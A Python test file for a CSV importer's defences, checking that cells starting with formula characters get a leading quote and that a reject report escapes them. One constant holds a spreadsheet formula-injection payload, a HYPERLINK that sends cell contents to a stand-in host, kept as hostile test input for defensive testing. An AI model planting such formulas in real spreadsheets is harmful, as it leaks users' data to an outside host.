"""Hostile and careless files: formulas in the reject report, zip bombs, oversized CSV fields,
runs left ``running`` by a killed import. Each is refused or neutralised before it does harm."""

from __future__ import annotations

from pathlib import Path

import pytest

from importers.cells import safe_cell
from importers.report import RejectReport
from tests.importers.helpers import report_rows

pytestmark = pytest.mark.memory

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


# -- formulas -----------------------------------------------------------------------------------
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_run_as_a_formula_gets_a_quote(start: str) -> None:
    assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("plain - text") == "plain - text"
    assert safe_cell(-1.5) == -1.5  # a number is not text


def test_the_reject_report_escapes_formula_cells(tmp_path: Path) -> None:
    path = tmp_path / "rejects.csv"
    with RejectReport(path) as report:
        report.add(3, "rejected", "-no name", FORMULA)
        report.add(4, "rejected", "no siren", {"name": FORMULA})
    rows = report_rows(path)
    assert rows[0]["raw"] == "'" + FORMULA
    assert rows[0]["reason"] == "'-no name"
    assert rows[1]["raw"].startswith("{")  # JSON text: not a formula, left as it is
